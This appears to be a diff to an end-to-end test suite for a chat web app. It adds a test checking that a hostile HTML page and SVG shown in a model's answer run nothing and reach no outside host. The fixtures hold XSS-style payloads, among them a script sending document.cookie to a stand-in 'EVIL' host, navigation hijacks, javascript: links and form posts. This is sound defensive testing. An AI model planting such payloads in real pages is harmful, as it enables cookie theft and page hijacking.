@@ -2,15 +2,17 @@
 
 from __future__ import annotations
 
+import asyncio
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from playwright.async_api import BrowserContext, Locator, Page, expect
+from playwright.async_api import Browser, BrowserContext, Locator, Page, expect
 
 from tests.doubles.upstream import Behaviour, Upstream
 from tests.e2e.chatting import answers, ask_and_wait
 from tests.e2e.conftest import PHONE, OpenBrowser
+from tests.e2e.site import Site
 
 pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]
 
@@ -91,6 +93,83 @@ async def test_a_table_is_copied_and_saved_for_spreadsheets_which_run_nothing_of
     await answer.locator(".table-block").get_by_role("button", name="Copy").click()
     await expect(answer.get_by_role("button", name="Copied")).to_be_visible()
     assert await copied(page) == "a \"b\"\tc, d\tx^2\n'=1+1\t-5 %\tx\n'@SUM(A1)\t'-1+2\t;"
+
+
+async def test_a_hostile_page_is_shown_and_reaches_nothing(
+    browser: Browser, site: Site, alice_state: Path, models: Upstream
+) -> None:
+    reached: list[bytes] = []
+
+    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        reached.append(await reader.read(100))
+        writer.close()
+
+    listener = await asyncio.start_server(note, "127.0.0.1", 0)
+    evil = f"http://127.0.0.1:{listener.sockets[0].getsockname()[1]}"
+    # Not one of the watched browsers: what the policy refuses is told on the console.
+    context = await browser.new_context(base_url=site.url, storage_state=alice_state)
+    page = await context.new_page()
+    answered_urls: list[str] = []
+    page.on("response", lambda response: answered_urls.append(response.url))
+    await page.goto("/")
+    source = HOSTILE_PAGE.replace("EVIL", evil)
+    answer = await answered(
+        page, models, f"```html\n{source}\n```\n\n```svg\n{HOSTILE_DRAWING.replace('EVIL', evil)}\n```\n"
+    )
+    await expect(answer.locator("pre").first).to_contain_text("Hello from the page")
+    await expect(answer.locator("iframe")).to_have_count(0)
+
+    for number in range(2):
+        await answer.get_by_role("button", name="Show", exact=True).first.click()
+        await expect(answer.locator("iframe")).to_have_count(number + 1)
+    frame = answer.frame_locator("iframe").nth(0)
+    await expect(frame.get_by_text("Hello from the page")).to_be_visible()
+    await expect(answer.frame_locator("iframe").nth(1).get_by_text("Hello from the drawing")).to_be_visible()
+    for link in await frame.locator("a, button, input[type=submit]").all():
+        await link.click(force=True)
+    for link in await answer.frame_locator("iframe").nth(1).locator("a").all():
+        await link.dispatch_event("click")
+
+    # Nothing has run, gone elsewhere or opened, and a request of our own is the first to arrive.
+    await expect(frame.get_by_text("Hello from the page")).to_be_visible()
+    assert await page.title() != "taken"
+    assert len(context.pages) == 1
+    _, writer = await asyncio.open_connection(*listener.sockets[0].getsockname())
+    writer.write(b"ours")
+    await writer.drain()
+    writer.close()
+    async with asyncio.timeout(10):
+        while not reached:
+            await asyncio.sleep(0.01)
+    assert reached == [b"ours"]
+    assert not any(url.startswith(evil) for url in answered_urls)
+
+    await answer.get_by_role("button", name="Source", exact=True).first.click()
+    await expect(answer.locator("pre").first).to_be_visible()
+    await expect(answer.locator("iframe")).to_have_count(1)
+    listener.close()
+    await context.close()
+
+
+HOSTILE_PAGE = """<!doctype html><html><head>
+<link rel=preconnect href=EVIL/a><link rel=dns-prefetch href=EVIL/b><link rel=prefetch href=EVIL/c>
+<link rel=preload as=image href=EVIL/d><link rel=stylesheet href=EVIL/e><link rel=icon href=EVIL/f>
+<meta http-equiv=refresh content="0;url=EVIL/g"><base href=EVIL/h>
+<style>@import url(EVIL/i); body { background: url(EVIL/j) }
+@font-face { font-family: x; src: url(EVIL/k) } p { font-family: x }</style>
+<script>top.document.title = "taken"; new Image().src = "EVIL/l?" + document.cookie; location = "EVIL/m"</script>
+</head><body onload="fetch('EVIL/n')"><p>Hello from the page</p>
+<img src=EVIL/o srcset="EVIL/p 2x" onerror="fetch('EVIL/q')"><video src=EVIL/r autoplay poster=EVIL/s></video>
+<iframe src=EVIL/t></iframe><iframe srcdoc="<img src=EVIL/u>"></iframe><object data=EVIL/v></object><embed src=EVIL/w>
+<a href=EVIL/x ping=EVIL/y>one</a> <a href=EVIL/z target=_top>two</a> <a href=EVIL/1 target=_blank>three</a>
+<a href=EVIL/2 download>four</a> <a href="javascript:top.document.title='taken'">five</a>
+<form action=EVIL/3 method=post><input type=submit value=send><button formaction=EVIL/4>go</button></form>
+</body></html>"""
+HOSTILE_DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 40" onload="fetch('EVIL/5')">
+<style>@import url(EVIL/6); text { fill: url(EVIL/7#a); mask: url(EVIL/8#m) }</style>
+<image href="EVIL/9" width="1" height="1"/><use href="EVIL/10#a"/><script>fetch("EVIL/11")</script>
+<a href="EVIL/12"><animate attributeName="href" to="EVIL/13" begin="0s"/><text y="20">Hello from the drawing</text></a>
+<foreignObject width="9" height="9"><iframe src="EVIL/14"></iframe></foreignObject></svg>"""
 
 
 async def test_the_menu_is_worked_with_the_keyboard_and_belongs_to_one_answer_at_a_time(
